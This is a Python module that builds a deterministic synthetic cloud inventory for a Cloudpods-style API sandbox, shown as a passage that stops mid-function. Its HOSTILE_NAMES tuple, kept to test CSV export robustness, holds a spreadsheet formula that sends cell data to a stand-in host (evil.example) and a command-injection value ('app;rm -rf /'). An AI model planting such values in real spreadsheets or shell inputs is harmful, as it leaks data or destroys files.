"""The sandbox's generated cloud: identity objects, cloud regions, zones, hosts, servers, ...

Everything is deterministic from ``seed``. Large tables (servers, disks) are stored as
columns and turned into records only when a page asks for them, so 1 000 000 servers fit
in memory and a page costs work proportional to the page, not to the inventory.

>>> inv = Inventory(servers=10, seed=1)
>>> inv.tables["servers"].count
10
>>> sorted(inv.tables["servers"].record(0))[:3]
['account', 'billing_type', 'brand']
"""

from __future__ import annotations

import hashlib
import threading
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import datetime, timezone

import numpy as np

DOMAIN_DEFAULT = "default"
EPOCH_END = int(datetime(2026, 11, 1, tzinfo=timezone.utc).timestamp())
SPAN = 4 * 365 * 86400  # servers were created over four years

CATALOG_REGIONS = ("region0", "region1")
ZONE_REGION = "region1-zone1"

# (name, provider, cloud_env, hypervisor, catalog region, zones, city, weight)
_CLOUDREGIONS = (
    (
        "Default",
        "OneCloud",
        "onpremise",
        "kvm",
        "region0",
        ("zone0", "zone1", "zone2"),
        "Beijing",
        40,
    ),
    (
        "Aliyun/cn-beijing",
        "Aliyun",
        "public",
        "aliyun",
        "region0",
        ("cn-beijing-a", "cn-beijing-h"),
        "Beijing",
        20,
    ),
    (
        "Aliyun/cn-hangzhou",
        "Aliyun",
        "public",
        "aliyun",
        "region0",
        ("cn-hangzhou-b",),
        "Hangzhou",
        10,
    ),
    (
        "AWS/us-east-1",
        "Aws",
        "public",
        "aws",
        "region1",
        ("us-east-1a", "us-east-1b"),
        "Virginia",
        15,
    ),
    (
        "VMware/dc-shanghai",
        "VMware",
        "onpremise",
        "esxi",
        "region1",
        ("sh-cluster1",),
        "Shanghai",
        15,
    ),
)
_STATUSES = ("running", "ready", "deploying", "starting", "stopping", "start_fail", "unknown")
_STATUS_P = (0.70, 0.20, 0.02, 0.02, 0.02, 0.02, 0.02)
_VCPUS = (1, 2, 4, 8, 16, 32)
_VCPU_P = (0.10, 0.30, 0.30, 0.18, 0.09, 0.03)
_MEM_PER_CPU = (1024, 2048, 4096)
_OS = (
    ("Linux", "CentOS 7.9"),
    ("Linux", "Ubuntu 22.04"),
    ("Linux", "Debian 12"),
    ("Linux", "Rocky Linux 9"),
    ("Windows", "Windows Server 2019"),
)
_PREFIXES = (
    "web",
    "api",
    "db",
    "cache",
    "worker",
    "batch",
    "ml",
    "ci",
    "mq",
    "lb",
    "es",
    "k8s-node",
)
_ENVS = ("prod", "staging", "dev", "test")
_OWNERS = ("alice", "bob", "carol", "dan", "erin", "frank")
_PROJECTS = (  # name, domain, weight of servers
    ("system", DOMAIN_DEFAULT, 20),
    ("ops", DOMAIN_DEFAULT, 12),
    ("web", DOMAIN_DEFAULT, 18),
    ("data", DOMAIN_DEFAULT, 14),
    ("ml-research", DOMAIN_DEFAULT, 10),
    ("qa", DOMAIN_DEFAULT, 8),
    ("finance", "corp", 10),
    ("marketing", "corp", 8),
)
# Names and tags as tenants really write them: a CSV or a spreadsheet must survive them.
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@import",
    'web, "prod", primary',
    "db-line1\nline2",
    "测试服务器-北京",
    "\tindented",
    "app;rm -rf /",
    "caché-naïve-ünïcode",
)


def fmt_time(ts: int | float) -> str:
    """Format epoch seconds as Cloudpods record time ``YYYY-MM-DDTHH:MM:SS.000000Z``."""
    return datetime.fromtimestamp(int(ts), timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.000000Z")


def make_id(seed: int, kind: str, i: int, *, dashed: bool = True) -> str:
    """A deterministic id: a UUID for region objects, 32 hex digits for keystone ones."""
    h = hashlib.blake2b(f"{seed}/{kind}/{i}".encode(), digest_size=16).hexdigest()
    if not dashed:
        return h
    h = h[:12] + "4" + h[13:16] + "89ab"[int(h[16], 16) % 4] + h[17:]
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


@dataclass
class Table:
    """One listable resource: a count, a record builder and the columns queries need.

    ``owner`` holds the owning project index per row (``None`` for rows not owned by a
    project), ``region`` the catalog region per row, ``created`` epoch seconds per row.
    Rows can be patched, deleted and created while the sandbox serves (``version``
    changes on every mutation so cached query results are dropped).
    """

    keyword: str
    plural: str
    count: int
    build: Callable[[int], dict]
    created: list[int]
    region: list[str] | None = None
    owner: list[int] | None = None
    owner_kind: str = "project"  # project, domain or system
    detail_fields: frozenset[str] = frozenset()
    searchable: tuple[str, ...] = ("name",)
    meta: Callable[[int], dict] | None = None
    marker_paged: bool = False
    always_counts: bool = False  # role_assignments: offset and total even when 0 (spec §8.2 D4)
    version: int = 0
    patches: dict[int, dict] = field(default_factory=dict)
    deleted: set[int] = field(default_factory=set)
    lock: threading.RLock = field(default_factory=threading.RLock, repr=False)
    _by_key: dict[str, int] | None = field(default=None, repr=False)

    def record(self, i: int) -> dict:
        """The full (details=true) record of row ``i``, patches applied."""
        patch = self.patches.get(i)
        if i >= self._base_count:
            return dict(patch or {})
        rec = self.build(i)
        if patch:
            rec.update(patch)
            for k in [k for k, v in patch.items() if v is None]:
                del rec[k]
        return rec

    def metadata(self, i: int) -> dict:
        patch = self.patches.get(i, {})
        if "metadata" in patch:
            return dict(patch["metadata"])
        return self.meta(i) if self.meta and i < self._base_count else {}

    def __post_init__(self) -> None:
        self._base_count = self.count

    def live_rows(self) -> list[int]:
        """Indices of rows that exist now, in index order."""
        if not self.deleted:
            return list(range(self.count))
        return [i for i in range(self.count) if i not in self.deleted]

    def find(self, key: str) -> int | None:
        """Row index by id or name (id first, as Cloudpods does)."""
        with self.lock:
            if self._by_key is None:
                by_name: dict[str, int] = {}
                by_id: dict[str, int] = {}
                for i in range(self.count):
                    rec = self.record(i)
                    by_id[str(rec.get("id"))] = i
                    by_name.setdefault(str(rec.get("name")), i)
                by_name.update(by_id)
                self._by_key = by_name
            i = self._by_key.get(key)
        return None if i is None or i in self.deleted else i

    # mutations, used by tests (drift) and by the demo (snapshot diffs)
    def patch(self, i: int, **fields: object) -> None:
        with self.lock:
            self.patches.setdefault(i, {}).update(fields)
            self._touch()

    def delete(self, i: int) -> None:
        with self.lock:
            self.deleted.add(i)
            self._touch()

    def create(self, rec: dict, *, owner: int | None = None, region: str | None = None) -> int:
        with self.lock:
            i = self.count
            self.patches[i] = dict(rec)
            self.count += 1
            self.created.append(int(datetime.now(timezone.utc).timestamp()))
            if self.owner is not None:
                self.owner.append(owner if owner is not None else 0)
            if self.region is not None:
                self.region.append(region or CATALOG_REGIONS[0])
            self._touch()
            return i

    def _touch(self) -> None:
        self.version += 1
        self._by_key = None


@dataclass(frozen=True)
class Project:
    id: str
    name: str
    domain_id: str


@dataclass(frozen=True)
class User:
    id: str
    name: str
    password: str = field(repr=False)
    domain_id: str
    project_roles: tuple[tuple[int, str], ...]  # (project index, role name)
    audit_id: str


class Inventory:
    """The whole generated cloud. ``tables`` maps plural names to :class:`Table`."""

    def __init__(self, servers: int = 1000, seed: int = 0) -> None:
        self.seed = seed
        self.n_servers = int(servers)
        self.rng = np.random.default_rng(seed)
        self.domains = [
            {"id": DOMAIN_DEFAULT, "name": "Default", "description": "The default domain"},
            {
                "id": make_id(seed, "domain", 1, dashed=False),
                "name": "corp",
                "description": "Corporate tenants",
            },
        ]
        self._domain_by_name = {"corp": self.domains[1]["id"]}
        self.projects = [
            Project(make_id(seed, "project", i, dashed=False), name, self._domain_id(dom))
            for i, (name, dom, _w) in enumerate(_PROJECTS)
        ]
        self.roles = [
            {"id": make_id(seed, "role", 0, dashed=False), "name": "admin"},
            {"id": make_id(seed, "role", 1, dashed=False), "name": "member"},
        ]
        self.users: list[User] = []
        self.tables: dict[str, Table] = {}
        self._build_compute()

    # -- identity ------------------------------------------------------------------
    def _domain_id(self, name: str) -> str:
        return DOMAIN_DEFAULT if name == DOMAIN_DEFAULT else self._domain_by_name[name]

    def domain_name(self, domain_id: str) -> str:
        return next((d["name"] for d in self.domains if d["id"] == domain_id), domain_id)

    def add_user(self, name: str, password: str, roles: Iterable[tuple[str, str]]) -> User:
        """Create a user with (project name, role name) assignments."""
        idx = len(self.users)
        pr = tuple((self.project_index(p), r) for p, r in roles)
        user = User(
            make_id(self.seed, "user", idx, dashed=False),
            name,
            password,
            DOMAIN_DEFAULT,
            pr,
            str(idx + 1),
        )
        self.users.append(user)
        return user

    def project_index(self, key: str) -> int:
        for i, p in enumerate(self.projects):
            if key in (p.id, p.name):
                return i
        raise KeyError(key)

    # -- compute ---------------------------------------------------------------------
    def _build_compute(self) -> None:
        seed, rng, n = self.seed, self.rng, self.n_servers
        t0 = EPOCH_END - SPAN - 86400 * 30

        # cloud regions and zones
        cregions, zones = [], []
        for ci, (name, provider, env, hyper, creg, znames, city, _w) in enumerate(_CLOUDREGIONS):
            cid = "default" if ci == 0 else make_id(seed, "cloudregion", ci)
            cregions.append(
                dict(
                    id=cid,
                    name=name,
                    provider=provider,
                    brand="OneCloud" if provider == "OneCloud" else provider,
                    cloud_env=env,
                    hypervisor=hyper,
                    catalog_region=creg,
                    city=city,
                    idx=ci,
                )
            )
            for zn in znames:
                zones.append(dict(id=make_id(seed, "zone", len(zones)), name=zn, cr=ci))
        self.cloudregions, self.zones = cregions, zones

        # wires, vpcs, networks: one vpc per cloud region, one wire and two networks per zone
        vpcs = [
            dict(
                id="default" if c["idx"] == 0 else make_id(seed, "vpc", c["idx"]),
                name="Default" if c["idx"] == 0 else f"vpc-{c['name'].split('/')[-1]}",
                cr=c["idx"],
                cidr=f"10.{c['idx']}.0.0/16",
            )
            for c in cregions
        ]
        wires, networks = [], []
        for zi, z in enumerate(zones):
            wires.append(dict(id=make_id(seed, "wire", zi), name=f"wire-{z['name']}", zone=zi))
            for k in range(2):
                ni = len(networks)
                networks.append(
                    dict(
                        id=make_id(seed, "network", ni),
                        name=f"net-{z['name']}-{k}",
                        zone=zi,
                        wire=zi,
                        prefix=f"10.{z['cr']}.{(zi * 2 + k) % 250}",
                        public=(k == 0),
                    )
                )
        self.vpcs, self.wires, self.networks = vpcs, wires, networks

        # hosts: weighted over zones by cloud region weight
        zone_w = np.array(
            [_CLOUDREGIONS[z["cr"]][7] / len(_CLOUDREGIONS[z["cr"]][5]) for z in zones], float
        )
        zone_w /= zone_w.sum()
        n_hosts = max(len(zones) * 2, n // 40)
        host_zone = np.sort(rng.choice(len(zones), size=n_hosts, p=zone_w))
        host_cpu = rng.choice([32, 48, 64, 96, 128], size=n_hosts)
        host_mem = rng.choice([131072, 262144, 524288, 786432], size=n_hosts)
        host_created = t0 + np.sort(rng.integers(0, 86400 * 60, n_hosts)) + np.arange(n_hosts)
        self.host_zone = host_zone.tolist()
        self.host_cpu = host_cpu.tolist()
        self.host_mem = host_mem.tolist()

        # servers, as columns
        host = rng.integers(0, n_hosts, n)
        status = rng.choice(len(_STATUSES), size=n, p=_STATUS_P)
        vcpu = np.array(_VCPUS)[rng.choice(len(_VCPUS), size=n, p=_VCPU_P)]
        vmem = vcpu * np.array(_MEM_PER_CPU)[rng.integers(0, 3, n)]
        sysdisk = rng.choice([30720, 40960, 51200, 102400], size=n)
        datadisk = np.where(
            rng.random(n) < 0.35, rng.choice([102400, 204800, 512000, 1048576], size=n), 0
        )
        proj_w = np.array([w for _n, _d, w in _PROJECTS], float)
        owner = rng.choice(len(_PROJECTS), size=n, p=proj_w / proj_w.sum())
        created = (EPOCH_END - SPAN) + np.sort(rng.integers(0, max(SPAN - n, 1), n)) + np.arange(n)
        updated = np.minimum(created + rng.integers(60, 86400 * 200, n), EPOCH_END + 86400 * 20)
        os_i = rng.integers(0, len(_OS), n)
        prefix = rng.integers(0, len(_PREFIXES), n)
        env = rng.integers(0, len(_ENVS), n)
        who = rng.integers(0, len(_OWNERS), n)
        net_k = rng.integers(0, 2, n)
        gpu = rng.random(n) < 0.03
        self.server_host = host.tolist()
        self.server_cols = dict(
            status=status.tolist(),
            vcpu=vcpu.tolist(),
            vmem=vmem.tolist(),
            sysdisk=sysdisk.tolist(),
            datadisk=datadisk.tolist(),
            os=os_i.tolist(),
            prefix=prefix.tolist(),
            env=env.tolist(),
            who=who.tolist(),
            net=net_k.tolist(),
            gpu=gpu.tolist(),
            updated=updated.tolist(),
        )
        server_created = created.tolist()
        server_owner = owner.tolist()
        server_region = [
            cregions[zones[self.host_zone[h]]["cr"]]["catalog_region"] for h in self.server_host
        ]
        # hostile names go to servers of the first catalog region, which demos and tests list
        home = [i for i, r in enumerate(server_region) if r == CATALOG_REGIONS[0]]
        picks = (
            rng.choice(len(home), size=min(len(home), len(HOSTILE_NAMES)), replace=False)
            if home
            else []
        )
        self.hostile = {home[int(k)]: HOSTILE_NAMES[j] for j, k in enumerate(picks)}
        self._server_created = server_created

        # host aggregates (allocated vCPU and memory, guest counts)
        host_guests = np.bincount(host, minlength=n_hosts)
        running = status == 0
        host_running = np.bincount(host, weights=running, minlength=n_hosts).astype(int)
        host_vcpu = np.bincount(host, weights=vcpu, minlength=n_hosts).astype(int)
        host_vmem = np.bincount(host, weights=vmem, minlength=n_hosts).astype(int)
        host_disk = np.bincount(host, weights=sysdisk + datadisk, minlength=n_hosts).astype(int)
        self.host_stats = dict(
            guests=host_guests.tolist(),
            running=host_running.tolist(),
            vcpu=host_vcpu.tolist(),
            vmem=host_vmem.tolist(),
            disk=host_disk.tolist(),
        )
        host_status = np.where(rng.random(n_hosts) < 0.03, 1, 0).tolist()

        self._table(
            "cloudregions",
            "cloudregion",
            len(cregions),
            self._cloudregion,
            [t0 + c["idx"] for c in cregions],
            region=[c["catalog_region"] for c in cregions],
            owner_kind="system",
            detail_fields={
                "can_delete",
                "can_update",
                "zone_count",
                "vpc_count",
                "guest_count",
                "network_count",
            },
        )
        self._table(
            "zones",
            "zone",
            len(zones),
            self._zone,
            [t0 + 10 + i for i in range(len(zones))],
            region=[self._zone_region(i) for i in range(len(zones))],
            owner_kind="system",
            detail_fields={
                "can_delete",
                "can_update",
                "cloudregion",
                "provider",
                "brand",
                "cloud_env",
                "hosts",
                "hosts_enabled",
                "baremetals",
                "baremetals_enabled",
                "wires",
                "networks",
                "storages",
            },
        )
        self._table(
            "vpcs",
            "vpc",
            len(vpcs),
            self._vpc,
            [t0 + 20 + i for i in range(len(vpcs))],
            region=[cregions[v["cr"]]["catalog_region"] for v in vpcs],
            owner_kind="domain",
            detail_fields={
                "can_delete",
                "can_update",
                "cloudregion",
                "wire_count",
                "network_count",
            },
        )
        self._table(
            "wires",
            "wire",
            len(wires),
            self._wire,
            [t0 + 40 + i for i in range(len(wires))],
            region=[self._zone_region(w["zone"]) for w in wires],
            owner_kind="domain",
            detail_fields={"can_delete", "can_update", "zone", "vpc", "cloudregion", "networks"},
        )
        self._table(
            "networks",
            "network",
            len(networks),
            self._network,
            [t0 + 80 + i for i in range(len(networks))],
            region=[self._zone_region(x["zone"]) for x in networks],
            owner=[0] * len(networks),
            owner_kind="shared",
            detail_fields={
                "can_delete",
                "can_update",
                "wire",
                "vpc",
                "vpc_id",
                "zone",
                "zone_id",
                "tenant",
                "ports",
                "ports_used",
                "vnics",
                "total",
            },
        )
        self._table(
            "hosts",
            "host",
            n_hosts,
            self._host,
            host_created.tolist(),
            region=[self._zone_region(z) for z in self.host_zone],
            owner_kind="domain",
            detail_fields={
                "can_delete",
                "can_update",
                "zone",
                "cloudregion",
                "cloudregion_id",
                "guests",
                "running_guests",
                "nonsystem_guests",
                "cpu_commit",
                "mem_commit",
                "cpu_commit_rate",
                "mem_commit_rate",
                "storage_used",
                "storage_free",
            },
        )
        self._host_status = host_status
        self._table(
            "storages",
            "storage",
            n_hosts,
            self._storage,
            (host_created + 5).tolist(),
            region=[self._zone_region(z) for z in self.host_zone],
            owner_kind="domain",
            detail_fields={
                "can_delete",
                "can_update",
                "zone",
                "cloudregion",
                "used_capacity",
                "free_capacity",
                "hosts",
                "disk_count",
            },
        )
        self._table(
            "servers",
            "server",
            n,
            self._server,
            server_created,
            region=server_region,
            owner=server_owner,
            detail_fields=_SERVER_DETAIL_FIELDS,
            searchable=("name", "id", "ips"),
            meta=self._server_meta,
        )
        n_data = int(np.count_nonzero(datadisk))
        self._data_disk_server = np.flatnonzero(datadisk).tolist()
        disk_created = server_created + [server_created[s] + 30 for s in self._data_disk_server]
        disk_order = sorted(range(n + n_data), key=disk_created.__getitem__)
        self._disk_order = disk_order
        self._table(
            "disks",
            "disk",
            n + n_data,
            self._disk,
            [disk_created[k] for k in disk_order],
            region=[server_region[self._disk_server(k)] for k in range(n + n_data)],
            owner=[server_owner[self._disk_server(k)] for k in range(n + n_data)],
            detail_fields={
                "can_delete",
                "can_update",
                "storage",
                "storage_type",
                "medium_type",
                "guest",
                "guests",
                "guest_count",
                "guest_status",
                "zone",
                "cloudregion",
                "tenant",
                "project",
            },
        )
        n_eips = max(1, n // 20)
        self._eip_server = (
            sorted(rng.choice(n, size=min(n, n_eips), replace=False).tolist()) if n else []
        )
        self._table(
            "eips",
            "eip",
            len(self._eip_server),
            self._eip,
            [server_created[s] + 60 for s in self._eip_server],
            region=[server_region[s] for s in self._eip_server],
            owner=[server_owner[s] for s in self._eip_server],
            detail_fields={
                "can_delete",
                "can_update",
                "associate_name",
                "cloudregion",
                "tenant",
                "project",
            },
        )
        self._table(
            "secgroups",
            "secgroup",
            12,
            self._secgroup,
            [t0 + 100 + i for i in range(12)],
            region=[CATALOG_REGIONS[i % 2] for i in range(12)],
            owner=[i % len(_PROJECTS) for i in range(12)],
            detail_fields={"can_delete", "can_update", "guest_cnt", "tenant", "project"},
        )
        skus = [(c, m) for c in _VCPUS for m in _MEM_PER_CPU]
        self._skus = skus
        self._table(
            "serverskus",
            "serversku",
            len(skus) * 2,
            self._sku,
            [t0 + 200 + i for i in range(len(skus) * 2)],
            region=[CATALOG_REGIONS[i // len(skus)] for i in range(len(skus) * 2)],
            owner_kind="system",
            detail_fields={"can_delete", "can_update", "cloudregion", "zone"},
        )
        n_events = min(max(n, 10), 5000)
        ev_server = rng.integers(0, max(n, 1), n_events).tolist()
        self._event_server = ev_server
        self._table(
            "events",
            "event",
            n_events,
            self._event,
            sorted((EPOCH_END - 86400 * 30 + rng.integers(0, 86400 * 30, n_events)).tolist()),
            region=[server_region[s] if n else CATALOG_REGIONS[0] for s in ev_server],
            owner=[server_owner[s] if n else 0 for s in ev_server],
            marker_paged=True,
            detail_fields={"can_delete", "can_update", "tenant", "project", "domain"},
        )
        self._table(
            "actions",
            "action",
            min(max(n, 10), 3000),
            self._action,
            sorted(
                (
                    EPOCH_END - 86400 * 30 + rng.integers(0, 86400 * 30, min(max(n, 10), 3000))
                ).tolist()
            ),
            region=[CATALOG_REGIONS[0]] * min(max(n, 10), 3000),
            owner=[i % len(_PROJECTS) for i in range(min(max(n, 10), 3000))],
            marker_paged=True,
            detail_fields={"can_delete", "can_update"},
        )
        accounts = [c for c in cregions if c["provider"] != "OneCloud"]
        self._accounts = accounts
        for plural, keyword in (
            ("cloudaccounts", "cloudaccount"),
            ("cloudproviders", "cloudprovider"),
        ):
            self._table(
                plural,
                keyword,
                len(accounts),
                lambda i, k=keyword: self._account(k, i),
                [t0 + 300 + i for i in range(len(accounts))],
                region=[a["catalog_region"] for a in accounts],
                owner_kind="domain",
                detail_fields={"can_delete", "can_update"},
            )
        for plural, keyword in (
            ("snapshots", "snapshot"),
            ("isolated_devices", "isolated_device"),
            ("keypairs", "keypair"),
        ):
            self._table(plural, keyword, 0, dict, [], region=[], owner=[])
        self._table(
            "images",
            "image",
            len(_OS) * 3,
            self._image,
            [t0 - 86400 * 10 + i for i in range(len(_OS) * 3)],
            region=[CATALOG_REGIONS[0]] * (len(_OS) * 3),
            owner=[0] * (len(_OS) * 3),
            owner_kind="shared",
            detail_fields={"can_delete", "can_update", "tenant", "project", "properties"},
        )

    def _table(
        self,
        plural: str,
        keyword: str,
        count: int,
        build: Callable[[int], dict],
        created: list[int],
        **kw: object,
    ) -> None:
        kw["detail_fields"] = frozenset(kw.get("detail_fields") or ())
        self.tables[plural] = Table(keyword, plural, count, build, list(created), **kw)  # type: ignore[arg-type]

    def _zone_region(self, zi: int) -> str:
        z = self.zones[zi]
        creg = self.cloudregions[z["cr"]]["catalog_region"]
        return creg

    # -- record builders (details=true; lists.py drops detail fields for details=false) --
    def _base(self, table: str, i: int) -> dict:
        created = self.tables[table].created[i] if table in self.tables else 0
        return {
            "created_at": fmt_time(created),
            "updated_at": fmt_time(created + 3600),
            "deleted": False,
            "can_delete": False,
            "can_update": True,
            "update_version": 1,
            "is_emulated": False,
        }

    def _owned(self, rec: dict, p: int) -> dict:
        proj = self.projects[p]
        rec.update(
            tenant=proj.name,
            tenant_id=proj.id,
            project=proj.name,
            project_id=proj.id,
            domain_id=proj.domain_id,
            project_domain=self.domain_name(proj.domain_id),
            project_src="local",
        )
        return rec

    def _cloudregion(self, i: int) -> dict:
        c = self.cloudregions[i]
        rec = self._base("cloudregions", i)
        rec.update(
            id=c["id"],
            name=c["name"],
            status="inservice",
            enabled=True,
            provider=c["provider"],
            brand=c["brand"],
            cloud_env=c["cloud_env"],
            environment=c["name"].split("/")[-1],
            city=c["city"],
            country_code="US" if c["provider"] == "Aws" else "CN",
            _i18n={},
            zone_count=sum(1 for z in self.zones if z["cr"] == i),
            vpc_count=1,
            guest_count=0,
            network_count=sum(2 for z in self.zones if z["cr"] == i),
            latitude=round(30 + i * 1.7, 4),
            longitude=round(116 - i * 3.1, 4),
            description=f"{c['name']} region",
        )
        if i:
            rec["external_id"] = c["name"].split("/")[-1]
        return rec

    def _zone(self, i: int) -> dict:
        z = self.zones[i]
        c = self.cloudregions[z["cr"]]
        hosts = sum(1 for h in self.host_zone if h == i)
        rec = self._base("zones", i)
        rec.update(
            id=z["id"],
            name=z["name"],
            status="enable",
            **_placement(c),
            _i18n={},
            hosts=hosts,
            hosts_enabled=hosts,
            baremetals=0,
            baremetals_enabled=0,
            wires=1,
            networks=2,
            storages=hosts,
        )
        return rec

    def _vpc(self, i: int) -> dict:
        v = self.vpcs[i]
        c = self.cloudregions[v["cr"]]
        rec = self._base("vpcs", i)
        rec.update(
            id=v["id"],
            name=v["name"],
            status="available",
            cidr_block=v["cidr"],
            **_placement(c),
            is_default=True,
            wire_count=sum(1 for z in self.zones if z["cr"] == v["cr"]),
            network_count=2 * sum(1 for z in self.zones if z["cr"] == v["cr"]),
            domain_id=DOMAIN_DEFAULT,
            public_scope="system",
            is_public=True,
        )
        return rec

    def _wire(self, i: int) -> dict:
        w = self.wires[i]
        z = self.zones[w["zone"]]
        v = self.vpcs[z["cr"]]
        c = self.cloudregions[z["cr"]]
        rec = self._base("wires", i)
        rec.update(
            id=w["id"],
            name=w["name"],
            status="available",
            bandwidth=10000,
            mtu=1500,
            zone_id=z["id"],
            zone=z["name"],
            vpc_id=v["id"],
            vpc=v["name"],
            cloudregion_id=c["id"],
            cloudregion=c["name"],
            networks=2,
            domain_id=DOMAIN_DEFAULT,
            brand=c["brand"],
            cloud_env=c["cloud_env"],
        )
        return rec

    def _network(self, i: int) -> dict:
        x = self.networks[i]
        z = self.zones[x["zone"]]
        v = self.vpcs[z["cr"]]
        w = self.wires[x["wire"]]
        rec = self._owned(self._base("networks", i), 0)
        rec.update(
            id=x["id"],
            name=x["name"],
            status="available",
            guest_ip_start=f"{x['prefix']}.2",
            guest_ip_end=f"{x['prefix']}.254",
            guest_ip_mask=24,
            guest_gateway=f"{x['prefix']}.1",
            guest_dns="114.114.114.114",
            vlan_id=1,
            server_type="guest",
            wire_id=w["id"],
            wire=w["name"],
            vpc_id=v["id"],
            vpc=v["name"],
            zone_id=z["id"],
            zone=z["name"],
            is_public=x["public"],
            public_scope="system" if x["public"] else "none",
            alloc_policy="none",
            ports=253,
            ports_used=0,
            vnics=0,
            total=253,
        )
        return rec

    def _host(self, i: int) -> dict:
        zi = self.host_zone[i]
        z = self.zones[zi]
        c = self.cloudregions[z["cr"]]
        st = self.host_stats
        cpu, mem = self.host_cpu[i], self.host_mem[i]
        storage = 4 * 1024 * 1024
        online = self._host_status[i] == 0
        rec = self._base("hosts", i)
        rec.update(
            id=make_id(self.seed, "host", i),
            name=f"host-{z['name']}-{i:05d}",
            status="running" if online else "unknown",
            enabled=online,
            host_status="online" if online else "offline",
            host_type=_host_type(c["hypervisor"]),
            access_ip=f"172.{16 + z['cr']}.{(i // 250) % 250}.{i % 250 + 1}",
            access_mac=f"00:16:3e:{(i >> 16) & 255:02x}:{(i >> 8) & 255:02x}:{i & 255:02x}",
            sn=f"SN{self.seed:02d}{i:08d}",
            cpu_count=cpu,
            cpu_desc="Intel(R) Xeon(R) Gold 6248R CPU @ 3.00GHz",
            cpu_mhz=3000,
            cpu_cmtbound=8.0,
            mem_size=mem,
            mem_reserved=8192,
            mem_cmtbound=1.2,
            storage_size=storage,
            zone_id=z["id"],
            zone=z["name"],
            **_placement(c),
            guests=st["guests"][i],
            running_guests=st["running"][i],
            nonsystem_guests=st["guests"][i],
            cpu_commit=st["vcpu"][i],
            mem_commit=st["vmem"][i],
            cpu_commit_rate=round(st["vcpu"][i] / cpu, 2),
            mem_commit_rate=round(st["vmem"][i] / (mem - 8192), 2),
            storage_used=st["disk"][i],
            storage_free=storage - st["disk"][i],
            is_baremetal=False,
            is_maintenance=False,
            version="v3.11.9",
            last_ping_at=fmt_time(EPOCH_END + 86400 * 25 - (0 if online else 86400 * 3)),
            domain_id=DOMAIN_DEFAULT,
        )
        return rec

    def _storage(self, i: int) -> dict:
        zi = self.host_zone[i]
        z = self.zones[zi]
        c = self.cloudregions[z["cr"]]
        cap = 4 * 1024 * 1024
        used = self.host_stats["disk"][i]
        rec = self._base("storages", i)
        rec.update(
            id=make_id(self.seed, "storage", i),
            name=f"local-{z['name']}-{i:05d}",
            status="online",
            enabled=True,
            capacity=cap,
            storage_type="local" if c["hypervisor"] == "kvm" else "cloud_ssd",
            medium_type="ssd" if i % 3 else "rotate",
            zone_id=z["id"],
            zone=z["name"],
            cloudregion_id=c["id"],
            cloudregion=c["name"],
            used_capacity=used,
            free_capacity=cap - used,
            cmtbound=1.0,
            hosts=1,
            disk_count=self.host_stats["guests"][i],
            domain_id=DOMAIN_DEFAULT,
        )
        return rec

    def server_id(self, i: int) -> str:
        return make_id(self.seed, "server", i)

    def _server(self, i: int) -> dict:
        cols = self.server_cols
        h = self.server_host[i]
        zi = self.host_zone[h]
        z = self.zones[zi]
        c = self.cloudregions[z["cr"]]
        v = self.vpcs[z["cr"]]
        net = self.networks[zi * 2 + cols["net"][i]]
        os_type, os_name = _OS[cols["os"][i]]
        status = _STATUSES[cols["status"][i]]
        ip = f"{net['prefix']}.{2 + (i * 7) % 250}"
        mac = (
            f"00:22:{(i >> 24) & 255:02x}:{(i >> 16) & 255:02x}:{(i >> 8) & 255:02x}:{i & 255:02x}"
        )
        sid = self.server_id(i)
        name = (
            self.hostile.get(i) or f"{_PREFIXES[cols['prefix'][i]]}-{_ENVS[cols['env'][i]]}-{i:07d}"
        )
        sysdisk, datadisk = cols["sysdisk"][i], cols["datadisk"][i]
        host_name = f"host-{z['name']}-{h:05d}"
        created = self._server_created[i]
        disks = [
            {
                "id": make_id(self.seed, "disk", i),
                "name": f"{name}-sys"[:64],
                "size": sysdisk,
                "disk_type": "sys",
                "storage_type": "local",
                "medium_type": "ssd",
                "index": 0,
                "image": os_name,
                "driver": "virtio",
            }
        ]
        if datadisk:
            disks.append(
                {
                    "id": make_id(self.seed, "datadisk", i),
                    "name": f"{name}-data"[:64],
                    "size": datadisk,
                    "disk_type": "data",
                    "storage_type": "local",
                    "medium_type": "rotate",
                    "index": 1,
                    "driver": "virtio",
                }
            )
        rec = {
            "id": sid,
            "name": name,
            "status": status,
            "hypervisor": c["hypervisor"],
            "vcpu_count": cols["vcpu"][i],
            "vmem_size": cols["vmem"][i],
            "disk": sysdisk + datadisk,
            "ips": ip,
            "macs": mac,
            "nics": [
                {
                    "ip_addr": ip,
                    "mac": mac,
                    "network_id": net["id"],
                    "network": net["name"],
                    "vpc_id": v["id"],
                    "ifname": "eth0",
                    "is_default": True,
                    "index": 0,
                }
            ],
            "disks_info": disks,
            "host": host_name,
            "host_id": make_id(self.seed, "host", h),
            "host_sn": f"SN{self.seed:02d}{h:08d}",
            "zone": z["name"],
            "zone_id": z["id"],
            "cloudregion": c["name"],
            "cloudregion_id": c["id"],
            "region": c["name"],
            "region_id": c["id"],
            "vpc": v["name"],
            "vpc_id": v["id"],
            "os_type": os_type,
            "os_name": os_name,
            "instance_type": f"ecs.g6.{_size_name(cols['vcpu'][i])}"
            if c["provider"] != "OneCloud"
            else "",
            "power_states": "on" if status == "running" else "off",
            "billing_type": "postpaid",
            "brand": c["brand"],
            "provider": c["provider"],
            "cloud_env": c["cloud_env"],
            "secgroups": [
                {"id": make_id(self.seed, "secgroup", i % 12), "name": f"sg-{i % 12:02d}"}
            ],
            "secgrp_id": make_id(self.seed, "secgroup", i % 12),
            "is_gpu": cols["gpu"][i],
            "is_system": False,
            "created_at": fmt_time(created),
            "updated_at": fmt_time(cols["updated"][i]),
            "update_version": 3,
            "deleted": False,
            "pending_deleted": False,
            "is_emulated": False,
            "can_delete": status != "running",
            "can_update": True,
            "freeze": False,
            "progress": 100.0,
            "description": "",
            "source": "local",
        }
        if not rec["instance_type"]:
            del rec["instance_type"]
        if rec["description"] == "":
            del rec["description"]
        if c["provider"] != "OneCloud":
            rec["manager"] = f"{c['provider'].lower()}-account"
            rec["account"] = f"{c['provider'].lower()}-account"
            rec["external_id"] = f"i-{sid[:8]}{sid[24:]}"
        else:
            rec["account"] = "OneCloud"
        return self._owned(rec, self.tables["servers"].owner[i] if "servers" in self.tables else 0)

    def _server_meta(self, i: int) -> dict:
        cols = self.server_cols
        meta = {
